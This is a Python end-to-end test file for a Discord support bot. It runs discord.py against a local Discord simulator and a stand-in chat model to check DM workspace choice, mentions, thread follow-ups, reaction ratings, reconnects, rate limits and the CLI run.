"""The Discord bot end to end: the real discord.py client against a local Discord (REST and
gateway over real HTTP and websockets), the real store and embedder, a local chat model.

Users and servers: acme's server (alice, bob), globex's server (bob), a server with no
knowledge (alice), and carol, who shares no server with the bot.
"""

from __future__ import annotations

import asyncio
import itertools
import os
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import discord
import pytest
from discord.gateway import DiscordWebSocket
from sqlmodel import Session, select

from bot.channels import ChannelSettings
from bot.decide import ChannelMode
from bot.discord import DiscordBot
from feedback.models import Interaction, Rating, RatingEvent
from feedback.models import Signal as MessageSignal
from retrieval.workspaces import IdentityKind
from supportbot.app import App
from tests.conftest import SAMPLE_KB, make_settings
from tests.discord_harness import interrupt, take_ctrl_c
from tests.servers.discord import DiscordSimulator, Intent, load_shared_fixture, rewrite_ids
from tests.servers.openai_chat import OpenAIChatSimulator, default_responder

pytestmark = pytest.mark.slow

TOKEN = "discord-bot-token"
ACME_GUILD, ACME_SUPPORT, ACME_GENERAL = (
    "2000000000000000100",
    "2000000000000000101",
    "2000000000000000102",
)
GLOBEX_GUILD, GLOBEX_HELP = "2000000000000000200", "2000000000000000201"
EMPTY_GUILD, EMPTY_CHANNEL = "2000000000000000300", "2000000000000000301"
# A second server without knowledge: its setup notice goes once, so a test of how it is sent
# needs a server no other test has asked from.
EMPTY2_GUILD, EMPTY2_CHANNEL = "2000000000000000310", "2000000000000000311"
ALICE, BOB, CAROL, OTHER_BOT = (
    "2000000000000001001",
    "2000000000000001002",
    "2000000000000001003",
    "2000000000000001004",
)
ALICE_DM, BOB_DM, CAROL_DM = "2000000000000002001", "2000000000000002002", "2000000000000002003"
THREAD = "2000000000000003001"


@pytest.fixture(scope="module")
def llm_server() -> Iterator[OpenAIChatSimulator]:
    with OpenAIChatSimulator(api_key="k") as server:
        yield server


@pytest.fixture(autouse=True)
def llm(llm_server: OpenAIChatSimulator) -> OpenAIChatSimulator:
    llm_server.reset_faults()
    llm_server.responder = default_responder
    llm_server.clear_requests()
    return llm_server


@pytest.fixture(scope="module")
def kb_app(
    weaviate_data_dir: Path,
    tmp_path_factory: pytest.TempPathFactory,
    embedder: Any,
    llm_server: OpenAIChatSimulator,
) -> Iterator[App]:
    folder = tmp_path_factory.mktemp("discord-bot")
    settings = make_settings(
        weaviate_data_dir, folder / "db.sqlite", llm_model="sim", llm_base_url=llm_server.base_url,
        llm_api_key="k", llm_timeout_s=2,
    )  # fmt: skip
    globex_doc = folder / "globex.md"
    globex_doc.write_text(
        "# Globex shipping\n\nGlobex ships rocket parts within 2 business days.\n",
        encoding="utf-8",
    )
    with App(settings, local_embedder=embedder) as application:
        kb = application.knowledge
        kb.create_workspace("dacme", [(IdentityKind.DISCORD_GUILD, ACME_GUILD)])
        kb.ingest_paths("dacme", [SAMPLE_KB / "en", SAMPLE_KB / "ko"])
        kb.create_workspace("dglobex", [(IdentityKind.DISCORD_GUILD, GLOBEX_GUILD)])
        kb.ingest_paths("dglobex", [globex_doc])
        kb.create_workspace("dempty", [(IdentityKind.DISCORD_GUILD, EMPTY_GUILD)])
        kb.create_workspace("dempty2", [(IdentityKind.DISCORD_GUILD, EMPTY2_GUILD)])
        yield application


# Message ids are unique on Discord; the tests share one database, so each simulator's
# snowflakes start at a different (reproducible) moment.
_clock_starts = itertools.count(1_750_000_000_000, 10_000_000)


@pytest.fixture
async def sim() -> AsyncIterator[DiscordSimulator]:
    simulator = DiscordSimulator(
        token=TOKEN, heartbeat_interval_ms=500, clock_start_ms=next(_clock_starts)
    )
    simulator.add_user(ALICE, "alice")
    simulator.add_user(BOB, "bob")
    simulator.add_user(CAROL, "carol")
    simulator.add_user(OTHER_BOT, "otherbot", bot=True)
    simulator.add_guild(
        ACME_GUILD, "Acme", channels=[(ACME_SUPPORT, "support"), (ACME_GENERAL, "general")],
        members=[ALICE, BOB, OTHER_BOT],
    )  # fmt: skip
    simulator.add_guild(GLOBEX_GUILD, "Globex", channels=[(GLOBEX_HELP, "help")], members=[BOB])
    simulator.add_guild(EMPTY_GUILD, "Empty", channels=[(EMPTY_CHANNEL, "q")], members=[ALICE])
    simulator.add_guild(EMPTY2_GUILD, "Empty2", channels=[(EMPTY2_CHANNEL, "q2")], members=[ALICE])
    simulator.add_thread(ACME_SUPPORT, THREAD, "refund question", owner_id=ALICE)
    for user, dm in ((ALICE, ALICE_DM), (BOB, BOB_DM), (CAROL, CAROL_DM)):
        simulator.add_dm_channel(user, channel_id=dm)
    async with simulator:
        yield simulator


StartBot = Callable[..., Awaitable[DiscordBot]]


@pytest.fixture
async def start_bot(
    kb_app: App, sim: DiscordSimulator, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[StartBot]:
    """Start the product's DiscordBot against the simulator; stopped after the test."""
    # The bot sets these process-wide class attributes; restore them for other tests.
    monkeypatch.setattr(discord.http.Route, "BASE", discord.http.Route.BASE)
    monkeypatch.setattr(DiscordWebSocket, "DEFAULT_GATEWAY", DiscordWebSocket.DEFAULT_GATEWAY)
    running: list[tuple[DiscordBot, asyncio.Task[None]]] = []

    async def start(**options: Any) -> DiscordBot:
        options.setdefault("public_dm_workspace", None)
        options.setdefault("message_content", False)
        bot = DiscordBot(
            kb_app.conversations, api_url=sim.api_url, guild_ready_timeout_s=0.05, **options
        )

        async def no_identify_pause(shard_id: int | None, *, initial: bool = False) -> None:
            return None  # discord.py waits 5 s before a re-IDENTIFY; tests need not

        bot.client.before_identify_hook = no_identify_pause  # type: ignore[method-assign]
        task = asyncio.create_task(bot.start(TOKEN))
        running.append((bot, task))
        ready = asyncio.create_task(bot.client.wait_until_ready())
        done, _ = await asyncio.wait({ready, task}, timeout=10, return_when=asyncio.FIRST_COMPLETED)
        if ready not in done:
            ready.cancel()
            raise AssertionError(
                f"bot did not become ready: {task.exception() if task.done() else 'timeout'}"
            )
        await sim.wait_for_live_session()
        return bot

    yield start
    for bot, task in running:
        await bot.close()
        await asyncio.wait({task}, timeout=5)


async def dm(sim: DiscordSimulator, user: str, channel: str, text: str) -> dict[str, Any]:
    message = sim.message_create(channel, user, text)
    await sim.dispatch("MESSAGE_CREATE", message)
    return message


async def bot_messages(sim: DiscordSimulator, channel: str, count: int = 1) -> list[dict[str, Any]]:
    await sim.wait_for_sent_message(channel, count=count, timeout=20)
    return sim.sent_messages(channel)


async def quiet(seconds: float = 0.5) -> None:
    """Give a wrongly sent message time to show up before asserting there is none."""
    await asyncio.sleep(seconds)


def interactions(app: App, question_ids: list[str]) -> list[Interaction]:
    """The stored answers to these questions (ids are unique: the tests share one database)."""
    with Session(app.engine) as session:
        return list(
            session.exec(
                select(Interaction).where(Interaction.message_id.in_(question_ids))  # type: ignore[attr-defined]
            )
        )


async def recorded(app: App, *questions: dict[str, Any]) -> list[Interaction]:
    """The answers to ``questions``, once stored (just after posting)."""
    ids = [q["id"] for q in questions]
    await _eventually(lambda: len(interactions(app, ids)) >= len(ids))
    return interactions(app, ids)


def condensing_responder(messages: list[dict[str, Any]]) -> str:
    """The stand-in model, also able to rewrite a follow-up as a standalone question."""
    if "standalone question" in str(messages[0].get("content", "")):
        return default_responder(messages)  # the last message, as asked
    return default_responder(messages)


async def message_containing(sim: DiscordSimulator, channel: str, text: str) -> dict[str, Any]:
    await _eventually(lambda: any(text in m["content"] for m in sim.sent_messages(channel)), 20)
    return next(m for m in sim.sent_messages(channel) if text in m["content"])


async def test_connects_with_minimal_intents_and_registers_slash_commands(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()

    identify = await sim.wait_for_identify()
    intents = discord.Intents._from_value(identify.intents)  # type: ignore[attr-defined]
    assert intents.guilds and intents.guild_messages and intents.dm_messages
    assert intents.guild_reactions and intents.dm_reactions
    assert not intents.message_content and not intents.members and not intents.presences
    assert {c["name"] for c in sim.commands()} == {"ask", "workspace"}
    assert sim.unknown_calls() == []


async def test_dm_is_answered_from_the_one_shared_servers_workspace(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()

    question = await dm(sim, ALICE, ALICE_DM, "How long is the password reset link valid?")

    [answer] = await bot_messages(sim, ALICE_DM)
    assert answer["content"].startswith("Based on the documentation") and "[1]" in answer["content"]
    assert "**Sources**" in answer["content"] and "password-and-sso.md" in answer["content"]
    assert sim.calls("POST", f"/channels/{ALICE_DM}/typing"), "shows typing while it works"
    [row] = await recorded(kb_app, question)
    assert row.workspace == "dacme" and row.platform == "discord"
    assert row.message_id == question["id"] and row.thread_id == ALICE_DM


async def test_dm_with_several_shared_servers_asks_to_choose_then_follows_the_choice(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App, llm: OpenAIChatSimulator
):
    llm.responder = condensing_responder  # the second question comes with the DM's history
    await start_bot()

    await dm(sim, BOB, BOB_DM, "How fast does Globex ship rocket parts?")
    prompt = await message_containing(sim, BOB_DM, "/workspace")
    assert "`dacme`, `dglobex`" in prompt["content"]

    choose = sim.interaction("workspace", user=BOB, channel_id=BOB_DM, options={"name": "dglobex"})
    await sim.dispatch("INTERACTION_CREATE", choose)
    await sim.wait_for_call("POST", "/interactions/*", timeout=10)
    [reply] = sim.interaction_replies(choose["id"])
    assert "now answered from `dglobex`" in str(reply.body)

    question = await dm(sim, BOB, BOB_DM, "How fast does Globex ship rocket parts?")
    answer = await message_containing(sim, BOB_DM, "Based on the documentation")
    assert "2 business days" in answer["content"] and "globex.md" in answer["content"]
    assert [r.workspace for r in await recorded(kb_app, question)] == ["dglobex"]


async def test_workspace_choice_of_a_server_the_user_is_not_in_is_refused(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()

    choose = sim.interaction(
        "workspace", user=ALICE, channel_id=ALICE_DM, options={"name": "dglobex"}
    )
    await sim.dispatch("INTERACTION_CREATE", choose)
    await sim.wait_for_call("POST", "/interactions/*", timeout=10)

    [reply] = sim.interaction_replies(choose["id"])
    assert "not the workspace of a server we share" in str(reply.body)
    assert kb_app.conversations.direct_message_choice("discord", ALICE) is None


async def test_dm_from_a_user_sharing_no_server_is_told_how_to_get_access(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()

    await dm(sim, CAROL, CAROL_DM, "How long is the password reset link valid?")

    [reply] = await bot_messages(sim, CAROL_DM)
    assert "only answer questions for servers we share" in reply["content"]
    await quiet()
    assert interactions(kb_app, [m["id"] for m in sim.history(CAROL_DM)]) == []


async def test_dm_from_a_user_sharing_no_server_uses_the_public_dm_workspace(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot(public_dm_workspace="dglobex")

    question = await dm(sim, CAROL, CAROL_DM, "How fast does Globex ship rocket parts?")

    [answer] = await bot_messages(sim, CAROL_DM)
    assert "2 business days" in answer["content"]
    assert [r.workspace for r in await recorded(kb_app, question)] == ["dglobex"]


async def test_mention_in_a_server_is_answered_as_a_reply_and_chatter_is_ignored(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()

    await sim.dispatch("MESSAGE_CREATE", sim.message_create(ACME_GENERAL, ALICE, "lunch anyone?"))
    await sim.dispatch(
        "MESSAGE_CREATE",
        sim.message_create(
            ACME_GENERAL, OTHER_BOT, "What is the API rate limit?", mention_bot=True
        ),
    )
    question = sim.message_create(
        ACME_GENERAL, ALICE, "How long is the password reset link valid?", mention_bot=True
    )
    await sim.dispatch("MESSAGE_CREATE", question)

    [answer] = await bot_messages(sim, ACME_GENERAL)
    await quiet()
    assert len(sim.sent_messages(ACME_GENERAL)) == 1  # not chatter, not the other bot
    assert answer["message_reference"]["message_id"] == question["id"]
    assert "password-and-sso.md" in answer["content"]
    post = sim.calls("POST", f"/channels/{ACME_GENERAL}/messages")[0]
    assert post.body["allowed_mentions"]["parse"] == []  # retrieved text pings nobody


async def test_a_real_message_create_payload_is_answered(
    start_bot: StartBot, sim: DiscordSimulator
):
    bot = await start_bot()
    assert bot.client.user is not None
    real = load_shared_fixture("MessageCreate.Type0")["d"]
    payload = rewrite_ids(
        real,
        {
            real["guild_id"]: ACME_GUILD,
            real["channel_id"]: ACME_SUPPORT,
            real["author"]["id"]: ALICE,
        },
    )
    payload["content"] = f"<@{bot.client.user.id}> What is the API rate limit?"
    payload["mentions"] = [sim.user(str(bot.client.user.id))]

    await sim.dispatch("MESSAGE_CREATE", payload)

    [answer] = await bot_messages(sim, ACME_SUPPORT)
    assert answer["message_reference"]["message_id"] == payload["id"]
    assert answer["content"].startswith("Based on the documentation")


async def test_thread_follow_up_without_mention_carries_the_thread_history(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator, kb_app: App
):
    # Discord hides the text of unaddressed server messages without Message Content.
    sim.privileged_intents = int(Intent.MESSAGE_CONTENT)
    llm.responder = condensing_responder
    await start_bot(message_content=True)
    first = sim.message_create(THREAD, ALICE, "How do I request a refund?", mention_bot=True)
    await sim.dispatch("MESSAGE_CREATE", first)
    await bot_messages(sim, THREAD)
    await recorded(kb_app, first)  # stored a moment after it is shown; people are slower

    follow_up = sim.message_create(THREAD, ALICE, "And how long does it take?")
    await sim.dispatch("MESSAGE_CREATE", follow_up)
    answers = await bot_messages(sim, THREAD, count=2)

    assert answers[1]["message_reference"]["message_id"] == follow_up["id"]
    condense = llm.chat_requests()[-2]
    assert "standalone question" in condense["messages"][0]["content"]
    history = " ".join(str(m["content"]) for m in condense["messages"][1:])
    assert "How do I request a refund?" in history and "Based on the documentation" in history


async def test_without_message_content_a_reply_to_the_bot_is_the_follow_up(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    llm.responder = condensing_responder
    await start_bot()
    first = sim.message_create(THREAD, ALICE, "How do I request a refund?", mention_bot=True)
    await sim.dispatch("MESSAGE_CREATE", first)
    [answer] = await bot_messages(sim, THREAD)

    hidden = sim.message_create(THREAD, ALICE, "And how long does it take?")
    await sim.dispatch("MESSAGE_CREATE", hidden)  # arrives without its text: not answerable
    reply = sim.message_create(THREAD, ALICE, "How long does it take?", reply_to=answer["id"])
    await sim.dispatch("MESSAGE_CREATE", reply)

    second = (await bot_messages(sim, THREAD, count=2))[-1]
    await quiet()
    assert second["message_reference"]["message_id"] == reply["id"]
    assert len(sim.sent_messages(THREAD)) == 2


async def test_unmentioned_message_in_a_thread_the_bot_never_answered_is_ignored(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()

    await sim.dispatch("MESSAGE_CREATE", sim.message_create(THREAD, ALICE, "How do refunds work?"))

    await quiet()
    assert sim.sent_messages(THREAD) == []


async def test_reply_chain_is_the_history_of_a_reply_to_the_bot(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    llm.responder = condensing_responder
    await start_bot()
    first = sim.message_create(ACME_SUPPORT, ALICE, "How do I request a refund?", mention_bot=True)
    await sim.dispatch("MESSAGE_CREATE", first)
    [answer] = await bot_messages(sim, ACME_SUPPORT)

    reply = sim.message_create(ACME_SUPPORT, ALICE, "How long does it take?", reply_to=answer["id"])
    await sim.dispatch("MESSAGE_CREATE", reply)

    second = (await bot_messages(sim, ACME_SUPPORT, count=2))[-1]
    assert second["message_reference"]["message_id"] == reply["id"]
    condense = llm.chat_requests()[-2]
    history = " ".join(str(m["content"]) for m in condense["messages"][1:])
    assert "How do I request a refund?" in history and "Based on the documentation" in history


async def test_support_channel_mode_needs_and_gets_message_content(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    ChannelSettings(kb_app.engine).set_mode(
        "discord", ACME_GUILD, ACME_SUPPORT, ChannelMode.ALL_QUESTIONS
    )
    sim.privileged_intents = int(Intent.MESSAGE_CONTENT)
    try:
        from supportbot.run import build_discord_bot

        assert build_discord_bot(kb_app).client.intents.message_content
        await start_bot(message_content=True)
        await sim.dispatch(
            "MESSAGE_CREATE", sim.message_create(ACME_SUPPORT, ALICE, "What is the API rate limit?")
        )
        [answer] = await bot_messages(sim, ACME_SUPPORT)
        assert answer["content"].startswith("Based on the documentation")
    finally:
        ChannelSettings(kb_app.engine).set_mode(
            "discord", ACME_GUILD, ACME_SUPPORT, ChannelMode.MENTION
        )


async def test_server_with_no_knowledge_gets_one_setup_message(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()

    for text in ("How do refunds work?", "What is the API rate limit?"):
        msg = sim.message_create(EMPTY_CHANNEL, ALICE, text, mention_bot=True)
        await sim.dispatch("MESSAGE_CREATE", msg)
    [setup] = await bot_messages(sim, EMPTY_CHANNEL)
    await quiet()

    assert len(sim.sent_messages(EMPTY_CHANNEL)) == 1
    assert "not set up for this workspace" in setup["content"]


async def test_reactions_on_uncached_answers_are_ratings_added_and_removed(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    bot = await start_bot()
    question = await dm(sim, ALICE, ALICE_DM, "How long is the password reset link valid?")
    [answer] = await bot_messages(sim, ALICE_DM)
    [row] = await recorded(kb_app, question)
    bot.client._connection._messages.clear()  # type: ignore[union-attr]  # as after a restart

    def ratings() -> list[int]:
        with Session(kb_app.engine) as session:
            return sorted(session.exec(select(Rating.value).where(Rating.interaction_id == row.id)))

    def history() -> list[tuple[int, int]]:
        with Session(kb_app.engine) as session:
            rows = session.exec(
                select(RatingEvent)
                .where(RatingEvent.interaction_id == row.id)
                .order_by(RatingEvent.id)  # type: ignore[arg-type]
            )
            return [(e.old_value, e.new_value) for e in rows]

    await sim.dispatch(
        "MESSAGE_REACTION_ADD", sim.reaction_add(ALICE_DM, answer["id"], ALICE, "👍")
    )
    await _eventually(lambda: ratings() == [1])
    await sim.dispatch(
        "MESSAGE_REACTION_ADD", sim.reaction_add(ALICE_DM, answer["id"], ALICE, "🎉")
    )  # not a vote
    await sim.dispatch(
        "MESSAGE_REACTION_REMOVE", sim.reaction_remove(ALICE_DM, answer["id"], ALICE, "👍")
    )
    await _eventually(lambda: ratings() == [])
    await sim.dispatch(
        "MESSAGE_REACTION_ADD", sim.reaction_add(ALICE_DM, answer["id"], ALICE, "👎🏽")
    )
    await _eventually(lambda: ratings() == [-1])
    # 👍 again, 👎 again (both reactions on), then the old 👍 is taken back: 👎 stands.
    for event, emoji in (("ADD", "👍"), ("ADD", "👎"), ("REMOVE", "👍")):
        build = sim.reaction_add if event == "ADD" else sim.reaction_remove
        await sim.dispatch(f"MESSAGE_REACTION_{event}", build(ALICE_DM, answer["id"], ALICE, emoji))
    await _eventually(lambda: history()[-2:] == [(-1, 1), (1, -1)])
    await asyncio.sleep(0.5)  # the removal is handled after the additions
    assert ratings() == [-1]


async def test_server_reaction_from_the_real_payload_is_a_rating(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()
    question = sim.message_create(
        ACME_GENERAL, BOB, "What is the API rate limit?", mention_bot=True
    )
    await sim.dispatch("MESSAGE_CREATE", question)
    [answer] = await bot_messages(sim, ACME_GENERAL)
    [row] = await recorded(kb_app, question)
    payload = load_shared_fixture("MessageReactionAdd")["d"]
    # Its guild and user share one placeholder id, so the ids are set field by field.
    payload.update(
        guild_id=ACME_GUILD, channel_id=ACME_GENERAL, message_id=answer["id"], user_id=BOB,
        emoji={"id": None, "name": "👎"},
    )  # fmt: skip
    payload["member"]["user"] = sim.user(BOB)
    payload["member"].setdefault("flags", 0)  # sent by Discord today, required by discord.py

    await sim.dispatch("MESSAGE_REACTION_ADD", payload)

    def ratings() -> list[int]:
        with Session(kb_app.engine) as session:
            return list(session.exec(select(Rating.value).where(Rating.interaction_id == row.id)))

    await _eventually(lambda: ratings() == [-1])


async def test_after_a_dropped_connection_the_bot_resumes_and_answers_once(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()
    question = sim.message_create(ALICE_DM, ALICE, "What is the API rate limit?")
    await sim.dispatch("MESSAGE_CREATE", question)
    await bot_messages(sim, ALICE_DM)

    async with sim.gateway_paused():
        await sim.drop_connection()
        # The same message again (as a replay would bring it) and a new one while away.
        await sim.dispatch("MESSAGE_CREATE", question)
        await sim.dispatch(
            "MESSAGE_CREATE", sim.message_create(ALICE_DM, ALICE, "How do I request a refund?")
        )
    await sim.wait_for_resume()
    await bot_messages(sim, ALICE_DM, count=2)
    await quiet()

    assert sim.identify_count == 1 and sim.resume_count == 1
    assert len(sim.sent_messages(ALICE_DM)) == 2


async def test_after_an_invalid_session_the_bot_identifies_again_and_keeps_answering(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()

    await sim.invalidate_session(resumable=False)
    await sim.wait_for_identify(count=2, timeout=10)
    await sim.wait_for_live_session()
    await dm(sim, ALICE, ALICE_DM, "What is the API rate limit?")

    await bot_messages(sim, ALICE_DM)


async def test_rate_limited_send_is_retried_and_sent_once(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()
    sim.rate_limit_next("POST", f"/channels/{ALICE_DM}/messages", retry_after=0.3)

    await dm(sim, ALICE, ALICE_DM, "What is the API rate limit?")

    await bot_messages(sim, ALICE_DM)
    await quiet()
    calls = sim.calls("POST", f"/channels/{ALICE_DM}/messages")
    assert [c.status for c in calls] == [429, 200]
    assert len(sim.sent_messages(ALICE_DM)) == 1


async def test_llm_failure_gets_an_apology_and_the_bot_keeps_working(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator
):
    await start_bot()
    llm.responder = condensing_responder  # the second question comes with the DM's history
    llm.fail_next(3, status=500)

    await dm(sim, ALICE, ALICE_DM, "비밀번호 재설정 링크는 얼마 동안 유효한가요?")
    [apology] = await bot_messages(sim, ALICE_DM)
    await dm(sim, ALICE, ALICE_DM, "What is the API rate limit?")
    answers = await bot_messages(sim, ALICE_DM, count=2)

    assert apology["content"].startswith("죄송합니다")
    assert answers[1]["content"].startswith("Based on the documentation")


async def test_long_answers_are_split_at_discords_limit(
    start_bot: StartBot, sim: DiscordSimulator, llm: OpenAIChatSimulator, kb_app: App
):
    await start_bot()
    llm.responder = lambda messages: ("Refunds are simple. " * 180).strip() + " [1]"

    question = await dm(sim, ALICE, ALICE_DM, "How do I request a refund?")

    parts = await bot_messages(sim, ALICE_DM, count=2)
    await quiet()
    assert all(len(p["content"]) <= 2000 for p in sim.sent_messages(ALICE_DM))
    assert "**Sources**" in parts[-1]["content"]
    # A vote on any part rates the answer.
    await sim.dispatch("MESSAGE_REACTION_ADD", sim.reaction_add(ALICE_DM, parts[-1]["id"], ALICE))
    [row] = await recorded(kb_app, question)
    await _eventually(lambda: kb_app.feedback.ratings(row.id) == [1])


async def test_ask_slash_command_answers_in_a_server_and_privately(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()

    public = sim.interaction(
        "ask",
        user=ALICE,
        channel_id=ACME_GENERAL,
        options={"question": "What is the API rate limit?"},
    )
    await sim.dispatch("INTERACTION_CREATE", public)
    private = sim.interaction(
        "ask", user=BOB, channel_id=GLOBEX_HELP,
        options={"question": "How fast does Globex ship rocket parts?", "private": True},
    )  # fmt: skip
    await sim.dispatch("INTERACTION_CREATE", private)

    await sim.wait_for_call("POST", "/webhooks/*", count=2, timeout=20)
    public_reply = [r for r in sim.interaction_replies(public["id"]) if r.kind == "followup"]
    private_reply = [r for r in sim.interaction_replies(private["id"]) if r.kind == "followup"]
    assert "Based on the documentation" in public_reply[0].body["content"]
    assert "2 business days" in private_reply[0].body["content"]
    assert private_reply[0].body.get("flags", 0) & 64  # ephemeral


async def _eventually(check: Callable[[], bool], timeout: float = 5.0) -> None:
    deadline = asyncio.get_running_loop().time() + timeout
    while not check():
        if asyncio.get_running_loop().time() > deadline:
            raise AssertionError("condition not met in time")
        await asyncio.sleep(0.05)


# --- `supportbot run`, as a user starts it -------------------------------------------------------

SUPPORTBOT = Path(sys.executable).with_name("supportbot")


def _run_env(app: App, **extra: str) -> dict[str, str]:
    keep = ("PATH", "HOME", "LANG", "TMPDIR", "PYTHONPATH")
    env = {name: os.environ[name] for name in keep if name in os.environ}
    env.update(
        SUPPORTBOT_DATA_DIR=str(app.settings.data_dir),
        DATABASE_URL=str(app.settings.database_url),
        SUPPORTBOT_SECRET_KEY="test-secret",
        PYTHONUTF8="1",
        PYTHONFAULTHANDLER="1",
        **extra,
    )
    return env


async def test_supportbot_run_connects_to_discord_and_answers_a_dm(
    kb_app: App, sim: DiscordSimulator, tmp_path: Path
):
    process = await asyncio.create_subprocess_exec(
        str(SUPPORTBOT), "run",
        env=_run_env(kb_app, DISCORD_BOT_TOKEN=TOKEN, DISCORD_API_URL=sim.api_url),
        cwd=tmp_path, stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, preexec_fn=take_ctrl_c,
    )  # fmt: skip
    try:
        identify = await sim.wait_for_identify(timeout=90)
        await sim.wait_for_live_session(timeout=30)
        question = await dm(sim, ALICE, ALICE_DM, "How long is the password reset link valid?")
        answer = await sim.wait_for_sent_message(ALICE_DM, timeout=60)
        stored = await recorded(kb_app, question)  # a moment after it is shown
    finally:
        stderr = await interrupt(process)
    assert identify.token == TOKEN
    assert not discord.Intents._from_value(identify.intents).message_content  # type: ignore[attr-defined]
    assert "password-and-sso.md" in answer["content"]  # extractive: no LLM configured
    assert [r.workspace for r in stored] == ["dacme"]
    assert sim.unknown_calls() == [], "the bot called routes Discord does not have"
    assert "Traceback" not in stderr.decode(), stderr.decode()[-2000:]


async def test_supportbot_run_with_a_refused_token_says_which_setting_to_fix(
    kb_app: App, sim: DiscordSimulator, tmp_path: Path
):
    process = await asyncio.create_subprocess_exec(
        str(SUPPORTBOT), "run",
        env=_run_env(kb_app, DISCORD_BOT_TOKEN="wrong", DISCORD_API_URL=sim.api_url),
        cwd=tmp_path, stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    _, stderr = await asyncio.wait_for(process.communicate(), timeout=90)

    lines = stderr.decode().strip().splitlines()
    assert process.returncode == 1
    assert lines[-1].startswith("error: DISCORD_BOT_TOKEN was refused by Discord"), lines
    assert "Traceback" not in stderr.decode()


async def test_workspace_command_of_a_user_sharing_no_server_says_how_to_get_access(
    start_bot: StartBot, sim: DiscordSimulator
):
    await start_bot()

    command = sim.interaction("workspace", user=CAROL, channel_id=CAROL_DM)
    await sim.dispatch("INTERACTION_CREATE", command)
    await sim.wait_for_call("POST", "/interactions/*", timeout=10)

    [reply] = sim.interaction_replies(command["id"])
    assert "only answer questions for servers we share" in str(reply.body)


# --- incoming text and when to answer ----------------------------------------------------------


def _signals_of(app: App, interaction_id: int | None) -> list[MessageSignal]:
    with Session(app.engine) as session:
        return list(
            session.exec(
                select(MessageSignal).where(MessageSignal.interaction_id == interaction_id)
            )
        )


async def test_mentions_channels_and_emoji_are_stored_as_plain_names(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App, llm: OpenAIChatSimulator
):
    await start_bot()
    decomposed = "\u1109\u1166\u1100\u1173\u11b7"  # 세금 in NFD jamo
    question = sim.message_create(
        ACME_GENERAL, BOB,
        f"can <@{ALICE}> reset the password link in <#{ACME_SUPPORT}>? "
        f"<:blobcat:123456789012345678> <@&2000000000000009999> {decomposed} <t:1700000000:R>",
        mention_bot=True,
    )  # fmt: skip
    await sim.dispatch("MESSAGE_CREATE", question)

    await bot_messages(sim, ACME_GENERAL)
    [row] = await recorded(kb_app, question)
    assert row.question == (
        "can @alice reset the password link in #support? :blobcat: @role 세금 2023-11-14 22:13 UTC"
    )
    sent = str(llm.chat_requests())
    assert "<@" not in sent and "<#" not in sent and "<:blobcat" not in sent


async def test_an_edited_message_is_never_answered_again(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()
    question = sim.message_create(
        ACME_GENERAL, ALICE, "How long is the pasword reset link valid?", mention_bot=True
    )
    await sim.dispatch("MESSAGE_CREATE", question)
    await bot_messages(sim, ACME_GENERAL)

    for n, content in enumerate(["How long is the password reset link valid?", "edit 2"]):
        edited = {
            **question,
            "content": f"<@{sim.bot_id}> {content}",
            "edited_timestamp": f"2030-01-01T00:00:0{n}.000000+00:00",
        }
        await sim.dispatch("MESSAGE_UPDATE", edited)
    # A resumed gateway replaying the original is the same message too.
    await sim.dispatch("MESSAGE_CREATE", question)
    await quiet(1.0)

    assert len(sim.sent_messages(ACME_GENERAL)) == 1
    assert len(await recorded(kb_app, question)) == 1


@pytest.mark.parametrize("thanks", ["ok 👍", "감사합니다", "thanks <:blobcat:123456789012345678>"])
async def test_thanks_in_a_followed_thread_is_a_signal_not_an_answer(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App, llm: OpenAIChatSimulator, thanks: str
):
    sim.privileged_intents = int(Intent.MESSAGE_CONTENT)  # unaddressed thread messages
    await start_bot(message_content=True)  # carry their text only with Message Content
    question = sim.message_create(THREAD, ALICE, "How do I request a refund?", mention_bot=True)
    await sim.dispatch("MESSAGE_CREATE", question)
    await bot_messages(sim, THREAD)
    [row] = await recorded(kb_app, question)
    asked = len(llm.chat_requests())

    await sim.dispatch("MESSAGE_CREATE", sim.message_create(THREAD, ALICE, thanks))

    await _eventually(lambda: len(_signals_of(kb_app, row.id)) == 1)
    await quiet()
    [signal_row] = _signals_of(kb_app, row.id)
    assert signal_row.kind == "acknowledgement" and signal_row.weight == 1.0
    assert signal_row.workspace == "dacme" and signal_row.platform == "discord"
    assert len(sim.sent_messages(THREAD)) == 1 and len(llm.chat_requests()) == asked


async def test_thanks_as_a_reply_to_the_answer_is_a_signal_about_that_answer(
    start_bot: StartBot, sim: DiscordSimulator, kb_app: App
):
    await start_bot()
    question = sim.message_create(
        ACME_SUPPORT, ALICE, "What is the API rate limit?", mention_bot=True
    )
    await sim.dispatch("MESSAGE_CREATE", question)
    [answer] = await bot_messages(sim, ACME_SUPPORT)
    [row] = await recorded(kb_app, question)

